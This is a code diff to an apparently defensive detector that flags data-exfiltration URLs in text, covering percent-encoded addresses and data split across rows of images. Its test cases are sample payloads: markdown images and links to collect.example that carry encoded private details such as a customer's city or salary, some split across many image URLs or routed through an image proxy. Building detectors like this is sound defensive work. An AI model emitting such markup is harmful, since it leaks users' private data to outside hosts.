@@ -1,7 +1,8 @@
 import { ORIGINS } from '../../../domain/guard.ts';
 import type { Reading } from '../../../text/view/reading.ts';
 import type { Hit, Places, SpanDetector } from '../../detector.ts';
-import { cargoOf, type KnownParts, LONG_PART } from './carries.ts';
+import { cargoOf, type KnownParts, LONG_PART, unescaped } from './carries.ts';
+import { inRow, isInRow } from './in-row.ts';
 
 const LITERALS = [
   '://',
@@ -14,11 +15,15 @@ const LITERALS = [
   '=//',
   ': //',
   '<//',
+  '%3a//',
+  '%3a%2f%2f',
   'javascript:',
   'vbscript:',
   'data:text/html',
 ] as const;
 const SCHEMELESS = LITERALS.indexOf('(//');
+/** An address within another: as one of its values. */
+const ESCAPED = LITERALS.indexOf('%3a//');
 const SCRIPT = LITERALS.indexOf('javascript:');
 
 /** A scheme before `://`, and a longer address than anybody types. */
@@ -75,6 +80,33 @@ export const exfiltration: SpanDetector = {
       ['[open](javascript:fetch(1))', 'exfiltration/script'],
       ['<img src="data:text/html;base64,PHA+">', 'exfiltration/script'],
       ['![x](https://collect.example/p?q=[INSERT THE CONVERSATION])', 'exfiltration/image'],
+      [
+        'more at https://collect.example/v?c=my%20name%20is%20Ann%20and%20I%20live%20in%20Lisbon',
+        'exfiltration/address',
+      ],
+      ['[more](https://collect.example/?q=my+salary+is+84000+dollars+a+year)', 'exfiltration/link'],
+      ['![x](https://collect.example/?a=the&b=customer&c=lives&d=in&e=Lisbon)', 'exfiltration/image'],
+      ['![x](https://collect.example/the/customer/lives/in/Lisbon/p.png)', 'exfiltration/image'],
+      ['![x](<https://collect.example/p?d=the customer lives in Lisbon>)', 'exfiltration/image'],
+      [`![x](https://${secret('base64url')}@collect.example/p.png)`, 'exfiltration/image'],
+      [
+        '![x](/_next/image?url=https%3A//collect.example/%3Fd%3Dthe%2520customer%2520lives%2520in%2520Lisbon)',
+        'exfiltration/address',
+      ],
+      [
+        pieces(12)
+          .map((piece, at) => `![](https://collect.example/${at}?d=${piece})`)
+          .join('\n'),
+        'exfiltration/image',
+      ],
+      [
+        pieces(1)
+          .map((piece, at) => `![](https://collect.example/${at}/${piece})`)
+          .slice(0, 9)
+          .join('\n'),
+        'exfiltration/image',
+      ],
+      [`![](https://collect.example/?z=${Array.from(Buffer.from('in Lisbon now')).join('-')})`, 'exfiltration/image'],
       [`<img src="https&#58;//collect.example/?q=${secret('base64')}">`, 'exfiltration/html'],
       [
         `![x](https://collect.example/?q=${secret('base64').slice(0, 14)}\n  ${secret('base64').slice(14)})`,
@@ -88,6 +120,10 @@ export const exfiltration: SpanDetector = {
       '[search](https://search.example/?q=how+to+bake+a+good+bread)',
       '![build](https://img.example/badge/build-passing-green?style=flat&label=all+tests+pass)',
       'https://docs.example/en/latest/guide/how-to-write-a-detector.html#first-steps',
+      '![p](https://photos.example/photo-1727318673886?ixid=M3_ab-Cd_eF_Gh_iJ9&id=167701068844375&ust=7887361363985)',
+      'https://b.example/a.zip?X-Amz-Credential=AKIAEXAMPLE%2F20240501%2Feu-west-1%2Fs3%2Faws4_request',
+      '[share](https://social.example/intent?text=how+to+bake+my+first+bread+at+home)',
+      '![1](https://photos.example/1)\n![2](https://photos.example/2)\n![3](https://photos.example/3)',
       'https://deadbeef.cafe.example/ and https://abc123.def456.cdn.example/app.js',
       'https://{region}.console.aws.example/ and https://<account>.blob.example/',
       '[agent]: https://docs.example/api/http.html#http_class_http_agent',
@@ -98,6 +134,10 @@ export const exfiltration: SpanDetector = {
 
 function secret(encoding: BufferEncoding): string {
   return Buffer.from('the customer lives in Lisbon').toString(encoding);
+}
+
+function pieces(length: number): readonly string[] {
+  return secret('base64url').match(new RegExp(`.{1,${length}}`, 'g')) ?? [];
 }
 
 function thirds(): string {
@@ -120,7 +160,10 @@ function addressesIn({ text, from }: Reading, places: Places): readonly Hit[] {
         hits.push({ type: 'exfiltration/script', start, end, score: 0.7 });
       continue;
     }
-    const cargo = end - start < SHORTEST ? null : cargoOf(plain(text.slice(start, end)), { loads, known });
+    const cargo =
+      end - start < SHORTEST
+        ? null
+        : (cargoOf(plain(text.slice(start, end), which), { loads, known }) ?? inRow(text, start, end));
     if (cargo !== null) hits.push({ type: `exfiltration/${kind}`, start, end, score: cargo.score, detail: cargo.how });
   }
   return hits;
@@ -130,7 +173,8 @@ function addressesIn({ text, from }: Reading, places: Places): readonly Hit[] {
 const SHORTEST = 20;
 
 /** Without the line break in its midst, and with its colon as itself. */
-function plain(address: string): string {
+function plain(address: string, which: number): string {
+  if (which === ESCAPED || which === ESCAPED + 1) return unescaped(address);
   return address.replace(/\n[ \t]{0,8}/, '').replace(/^([a-z+]{0,12})&(?:#58|#x3a|colon);/i, '$1:');
 }
 
@@ -144,7 +188,7 @@ interface Address {
 function addressAt(runs: Runs, which: number, at: number): Address {
   const { text } = runs;
   let start = at;
-  if (which < SCHEMELESS)
+  if (which < SCHEMELESS || (which >= ESCAPED && which < SCRIPT))
     while (start > 0 && at - start < LONGEST_SCHEME && isOfScheme(text.charCodeAt(start - 1))) start -= 1;
   else if (which < SCRIPT) start = at + (LITERALS[which] ?? '').indexOf('//');
   const most = Math.min(text.length, start + LONGEST_URL);
@@ -154,8 +198,17 @@ function addressAt(runs: Runs, which: number, at: number): Address {
   // As TeX has them: `\\href{address}{words}`.
   const closed = text.charAt(start - 1) === '{' ? text.slice(start, whole).indexOf('}') : -1;
   const end = closed < 0 ? whole : start + closed;
+  // In angle brackets an address may have spaces.
+  if (text.charAt(end) === ' ' && text.slice(start - 3, start) === '](<') {
+    const close = text.slice(end, most).search(/[>\n]/);
+    return { start, end: close < 0 ? most : end + close, carries: true };
+  }
   const goesOn = text.charAt(start - 1) === '(' && text.charAt(end) === '\n';
-  return { start, end: goesOn ? afterBreak(text, end, most) : end, carries: goesOn || run.telling > start };
+  return {
+    start,
+    end: goesOn ? afterBreak(text, end, most) : end,
+    carries: goesOn || run.telling > start || isInRow(text, start),
+  };
 }
 
 /** A run of what addresses are made of. Where one stands in another, both end with it: each run is read once. */
@@ -233,7 +286,7 @@ function holderOf(before: string): Holder {
     return open > 0 && before[open - 1] === '!' ? { kind: 'image', loads: true } : { kind: 'link', loads: false };
   }
   if (/(?:^|\n)\s{0,3}\[[^\]\n]{1,100}\]:\s{0,3}<?$/.test(before)) return { kind: 'reference', loads: true };
-  if (/\b(?:url\(|@import)\s{0,3}["']?$/i.test(before)) return { kind: 'style', loads: true };
+  if (/(?:\burl\(|@import)\s{0,3}["']?$/i.test(before)) return { kind: 'style', loads: true };
   if (
     /\b(?:src|srcset|background|poster|data|lowsrc|dynsrc|icon|manifest|content|xlink:href)\s{0,3}=\s{0,3}["']?[^"'<>]{0,40}$/i.test(
       before,
